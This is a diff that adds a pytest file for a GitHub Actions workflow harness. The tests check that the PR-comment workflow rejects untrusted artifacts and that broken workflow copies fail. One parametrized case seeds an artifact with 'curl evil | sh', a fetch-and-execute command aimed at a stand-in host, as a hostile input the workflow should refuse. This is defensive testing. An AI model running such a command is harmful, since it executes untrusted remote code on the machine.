@@ -1,0 +1,193 @@
+"""The harness fails broken workflows, and pr-comment.yml refuses untrusted artifacts it should refuse.
+
+Broken copies of the real workflows are written to a temporary directory and run exactly like the originals.
+"""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+
+import pytest
+
+from tests.support.actions_runner import (
+    RunResult,
+    WorkflowError,
+    evaluate,
+    interpolate,
+    pull_request_event,
+    workflow_run_event,
+)
+from tests.workflows.conftest import BASE_SHA, HEAD_SHA
+
+WORKFLOWS = Path(__file__).resolve().parents[2] / ".github" / "workflows"
+MARKER = "<!-- mlops-template:pr-report -->"
+
+
+def broken_copy(tmp_path: Path, name: str, old: str, new: str) -> Path:
+    text = (WORKFLOWS / name).read_text()
+    assert old in text, f"{name} no longer contains {old!r}: update this test"
+    path = tmp_path / name
+    path.write_text(text.replace(old, new, 1))
+    return path
+
+
+def seed_pr_artifact(harness, pull: int, head_sha: str = HEAD_SHA, extra: dict[str, bytes] | None = None) -> RunResult:
+    """A finished pr.yml run whose pr-report artifact is in the harness's artifact store."""
+    run = RunResult(workflow="pr", run_id=4242, event_name="pull_request")
+    root = harness.runner.artifacts / str(run.run_id) / "pr-report"
+    (root / "model").mkdir(parents=True)
+    for name in ("metrics.json", "comparison.json", "validation.json"):
+        (root / name).write_text(json.dumps({"ok": True}))
+    (root / "validation.md").write_text("valid\n")
+    (root / "job_summary.md").write_text("## Model gate\n")
+    (root / "pr_comment.md").write_text(f"{MARKER}\n## Model gate: promote\n")
+    (root / "model" / "model.joblib").write_bytes(b"\x80\x04joblib")
+    (root / "model" / "metadata.json").write_text("{}")
+    (root / "pr.json").write_text(json.dumps({"pr": pull, "head_sha": head_sha, "base_sha": BASE_SHA}))
+    for rel, data in (extra or {}).items():
+        (root / rel).write_bytes(data)
+    return run
+
+
+def run_pr_comment(harness, pr_run: RunResult, workflow: str | Path = "pr-comment.yml") -> RunResult:
+    event = workflow_run_event(harness.gh.repository, pr_run, HEAD_SHA, "better-model")
+    return harness.runner.run(workflow, "workflow_run", event, sha=BASE_SHA)
+
+
+# -- the comment workflow on its own --------------------------------------------------------------------------
+
+
+def test_pr_comment_posts_one_sticky_comment_and_updates_it(harness):
+    pull = harness.gh.add_pull(head_sha=HEAD_SHA, head_ref="better-model")["number"]
+    pr_run = seed_pr_artifact(harness, pull)
+    for _ in range(2):
+        run = run_pr_comment(harness, pr_run)
+        assert run.conclusion == "success", run.log
+    comments = harness.gh.comments_on(pull)
+    assert len(comments) == 1 and MARKER in comments[0]["body"]
+    assert harness.gh.violations == []
+
+
+def test_pr_comment_finds_a_fork_pr_by_its_head_sha(harness):
+    pull = harness.gh.add_pull(head_sha=HEAD_SHA, head_ref="better-model", head_owner="forker")["number"]
+    run = run_pr_comment(harness, seed_pr_artifact(harness, pull))
+    assert run.conclusion == "success", run.log
+    assert len(harness.gh.comments_on(pull)) == 1
+
+
+def test_an_artifact_claiming_another_commit_is_refused(harness):
+    pull = harness.gh.add_pull(head_sha=HEAD_SHA, head_ref="better-model")["number"]
+    run = run_pr_comment(harness, seed_pr_artifact(harness, pull, head_sha="9" * 40))
+    assert run.conclusion == "failure"
+    assert "refusing" in run.jobs["comment"].step("Check the untrusted artifact (size, file names, content, "
+                                                  "head SHA)").log
+    assert harness.gh.comments_on(pull) == []
+
+
+def test_an_artifact_claiming_another_pr_number_cannot_redirect_the_comment(harness):
+    victim = harness.gh.add_issue("An unrelated issue")["number"]
+    pull = harness.gh.add_pull(head_sha=HEAD_SHA, head_ref="better-model")["number"]
+    run = run_pr_comment(harness, seed_pr_artifact(harness, victim))
+    assert run.conclusion == "success", run.log
+    assert harness.gh.comments_on(victim) == []
+    assert len(harness.gh.comments_on(pull)) == 1
+
+
+@pytest.mark.parametrize("extra", [{"run.sh": b"curl evil | sh\n"}, {"pr_comment.md": b"\xff\xfe not utf-8"}])
+def test_an_artifact_with_unexpected_content_is_refused(harness, extra):
+    pull = harness.gh.add_pull(head_sha=HEAD_SHA, head_ref="better-model")["number"]
+    run = run_pr_comment(harness, seed_pr_artifact(harness, pull, extra=extra))
+    assert run.conclusion == "failure"
+    assert harness.gh.comments_on(pull) == []
+
+
+def test_a_job_without_the_permission_it_needs_fails(harness, tmp_path):
+    pull = harness.gh.add_pull(head_sha=HEAD_SHA, head_ref="better-model")["number"]
+    workflow = broken_copy(tmp_path, "pr-comment.yml", "pull-requests: write", "pull-requests: read")
+    run = run_pr_comment(harness, seed_pr_artifact(harness, pull), workflow)
+    assert run.conclusion == "failure"
+    assert "pull-requests: write" in run.jobs["comment"].log
+    assert harness.gh.comments_on(pull) == []
+
+
+# -- broken workflows fail the harness ------------------------------------------------------------------------
+
+
+def test_a_file_the_next_step_does_not_find_fails_the_run(harness, tmp_path):
+    pull = harness.gh.add_pull(head_sha=HEAD_SHA, head_ref="better-model")["number"]
+    workflow = broken_copy(tmp_path, "pr-comment.yml", "path: ${{ runner.temp }}/pr-report",
+                           "path: ${{ runner.temp }}/report")
+    run = run_pr_comment(harness, seed_pr_artifact(harness, pull), workflow)
+    assert run.conclusion == "failure"
+    job = run.jobs["comment"]
+    failed = [s for s in job.steps if s.outcome == "failure"]
+    assert len(failed) == 1 and "not downloaded" in failed[0].log
+    assert job.steps[-1].outcome == "skipped"
+    assert harness.gh.comments_on(pull) == []
+
+
+def test_a_wrong_artifact_name_fails_the_run(harness, tmp_path):
+    pull = harness.gh.add_pull(head_sha=HEAD_SHA, head_ref="better-model")["number"]
+    workflow = broken_copy(tmp_path, "pr-comment.yml", "name: pr-report", "name: pr-reports")
+    run = run_pr_comment(harness, seed_pr_artifact(harness, pull), workflow)
+    assert run.conclusion == "failure"
+    assert "no artifact named 'pr-reports'" in run.jobs["comment"].log
+
+
+def test_a_wrong_script_flag_fails_the_run(harness, tmp_path):
+    step = "Get the data data.dvc names (dvc pull, or regenerate the sample) and verify its hash"
+    workflow = broken_copy(tmp_path, "pr.yml", "run: python scripts/get_data.py",
+                           "run: python scripts/get_data.py --parms params.yaml")
+    pull = harness.gh.add_pull(head_sha=HEAD_SHA)["number"]
+    run = harness.runner.run(workflow, "pull_request",
+                             pull_request_event(harness.gh.repository, pull, HEAD_SHA, BASE_SHA), sha=HEAD_SHA)
+    assert run.conclusion == "failure"
+    job = run.jobs["gate"]
+    assert job.step(step).outcome == "failure"
+    assert "No such option '--parms'" in job.step(step).log
+    assert {s.outcome for s in job.steps[job.steps.index(job.step(step)) + 1:]} == {"skipped"}
+
+
+def test_an_action_without_a_local_stand_in_fails_the_run(harness, tmp_path):
+    workflow = broken_copy(tmp_path, "pr.yml", "      - name: Get the data",
+                           "      - uses: someone/unknown-action@0123456789012345678901234567890123456789\n"
+                           "      - name: Get the data")
+    pull = harness.gh.add_pull(head_sha=HEAD_SHA)["number"]
+    run = harness.runner.run(workflow, "pull_request",
+                             pull_request_event(harness.gh.repository, pull, HEAD_SHA, BASE_SHA), sha=HEAD_SHA)
+    assert run.conclusion == "failure"
+    assert "no stand-in for someone/unknown-action" in run.jobs["gate"].log
+
+
+# -- expressions ----------------------------------------------------------------------------------------------
+
+
+CONTEXTS = {
+    "github": {"event": {"workflow_run": {"conclusion": "failure", "event": "pull_request"}}, "token": "t"},
+    "vars": {"EMPTY": ""}, "inputs": {"simulate": True, "reason": "drift"},
+    "steps": {"app-token": {"outputs": {}}, "gate": {"outputs": {"promote": "true"}}},
+    "env": {}, "secrets": {}, "needs": {}, "runner": {"temp": "/tmp/r"},
+}
+
+
+@pytest.mark.parametrize("expression, expected", [
+    ("github.event.workflow_run.event == 'pull_request'", True),
+    ("github.event.workflow_run.conclusion == 'SUCCESS' || github.event.workflow_run.conclusion == 'failure'", True),
+    ("vars.EMPTY == '' && !inputs.simulate", False),
+    ("vars.MISSING != '' || inputs.simulate", True),
+    ("steps.app-token.outputs.token || github.token", "t"),
+    ("steps.gate.outputs.promote == 'true'", True),
+    ("vars.MISSING || 'default'", "default"),
+    ("contains(inputs.reason, 'DRI') && startsWith(inputs.reason, 'd')", True),
+    ("format('{0}/{1}', runner.temp, 'x')", "/tmp/r/x"),
+    ("1 < 2 && null == ''", True),
+])
+def test_expressions(expression, expected):
+    assert evaluate(expression, CONTEXTS) == expected
+
+
+def test_interpolation_and_unknown_contexts():
+    assert interpolate("${{ runner.temp }}/pr-report", CONTEXTS) == "/tmp/r/pr-report"
+    with pytest.raises(WorkflowError, match="unknown context"):
+        evaluate("matrixx.os == 'linux'", CONTEXTS)
